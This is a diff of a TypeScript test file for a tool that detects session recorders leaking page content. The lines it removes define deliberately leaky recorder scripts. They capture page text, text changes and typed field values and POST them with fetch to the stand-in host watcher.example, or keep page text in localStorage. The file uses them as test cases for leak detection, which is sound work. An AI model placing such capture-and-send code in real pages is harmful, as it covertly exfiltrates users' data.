@@ -4,7 +4,6 @@ import type { Browser } from 'playwright-core';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { startBrowser } from '../src/browser/start-browser.ts';
 import { ownRecorder } from '../src/recorders/own.ts';
-import type { RecorderUnderTest } from '../src/recorders/recorder.ts';
 import { rrwebRecorder } from '../src/recorders/rrweb.ts';
 import type { LeakReport, PlaceResult } from '../src/report/leak-report.ts';
 import { testPage } from '../src/run/test-page.ts';
@@ -63,13 +62,19 @@ test('our recorder lets nothing out of a page, and its recording is of use', asy
   expect(report.decoys.made).toBeGreaterThan(20);
   expect(planted(report).length).toBeGreaterThan(50);
   expect(planted(report).some(({ page }) => page === 2)).toBe(true);
-  expect(report.pictures.map(({ name }) => name)).toEqual(['as it is', 'planted', 'used', 'journey to about']);
+  expect(report.pictures.map(({ name }) => name)).toEqual([
+    'as it is',
+    'planted',
+    'used',
+    'journey to about',
+  ]);
   for (const { live, replayed } of report.pictures) {
     expect(isPng(live)).toBe(true);
     expect(isPng(replayed)).toBe(true);
   }
   expect(steps).toEqual([
-    ...['opening the page 0/5', 'planting 0/5', 'using the page 1/5', 'journey to about 2/5'],
+    ...['opening the page 0/5', 'looking at the page as it is 0/5', 'planting 0/5'],
+    ...['using the page 1/5', 'journey to about 2/5'],
     ...['searching 3/5', 'replaying 4/5', 'done 5/5'],
   ]);
 }, 120_000);
@@ -169,72 +174,6 @@ test('the page’s own recorder: what it sends elsewhere is searched, what goes 
   expect(report.sentByPage).toEqual([{ host: new URL(own.url).host, places }]);
   await Promise.all([own.close(), elsewhere.close()]);
 }, 120_000);
-
-/** What a recorder of one sense alone is caught at: each of them is a way that a test must go. */
-const ONE_SENSE = [
-  ['what stands there when recording starts', 'send(document.body.innerText)', 'wire', ['text']],
-  [
-    'what changes afterwards',
-    `new MutationObserver((all) => all.forEach(({ target }) => send(target.nodeValue ?? '')))
-      .observe(document.body, { subtree: true, characterData: true })`,
-    'wire',
-    ['text'],
-  ],
-  [
-    'what is typed',
-    "addEventListener('change', ({ target }) => send(target.value), true)",
-    'wire',
-    ['field'],
-  ],
-  [
-    'what it keeps in the browser',
-    "localStorage.setItem('watcher', document.querySelector('p').textContent)",
-    'browser-storage',
-    ['text'],
-  ],
-] as const;
-
-test.each(ONE_SENSE)(
-  'a recorder that tells %s alone is caught',
-  async (_, start, where, kinds) => {
-    const recorder: RecorderUnderTest = {
-      name: 'one sense',
-      script: async () => `globalThis.leakTestRecorder = { start() { send('started'); ${start} }, stop() {} };
-        function send(body) { fetch('https://watcher.example/', { method: 'POST', mode: 'no-cors', body }); }`,
-      isRecorders: (host) => host === 'watcher.example',
-      isRecordersItem: (name) => name === 'watcher',
-      answer: async () => new Response(null, { status: 204 }),
-    };
-    const report = await testPage(`${site.url}/strict`, { recorder });
-    const caught = leaking(report);
-    expect([...new Set(caught.map(({ kind }) => kind))]).toEqual(kinds);
-    expect(guisesOf(caught)).toEqual(new Set(['letters', 'words']));
-    expect(caught.flatMap(({ findings }) => findings.flatMap((finding) => finding.in))).toContain(where);
-  },
-  120_000,
-);
-
-const SILENT: RecorderUnderTest = {
-  name: 'silent',
-  script: async () => 'globalThis.leakTestRecorder = { start() {}, stop() {} };',
-  isRecorders: (host) => host === 'silent.example',
-};
-
-test('a recorder that records nothing does not pass, nor does a journey that is not gone to its end', async () => {
-  const journey = parseJourney({ name: 'lost', steps: [{ goto: '/about' }, { click: '#nowhere' }] });
-  const report = await testPage(`${site.url}/strict`, {
-    recorder: SILENT,
-    journeys: [journey],
-    timeoutMs: 5_000,
-  });
-  expect(report.passed).toBe(false);
-  expect(report.failures).toEqual([
-    'journey lost, step 2 (click #nowhere): no such element is visible within 5000 ms',
-    'the recorder sent nothing',
-    'utility was not measured, and must reach 0.9',
-    'layout was not measured, and must reach 0.9',
-  ]);
-}, 60_000);
 
 const REFUSED = [
   ['a server that is not there', 'http://127.0.0.1:9/', {}, 'leak_test_page_unreachable'],
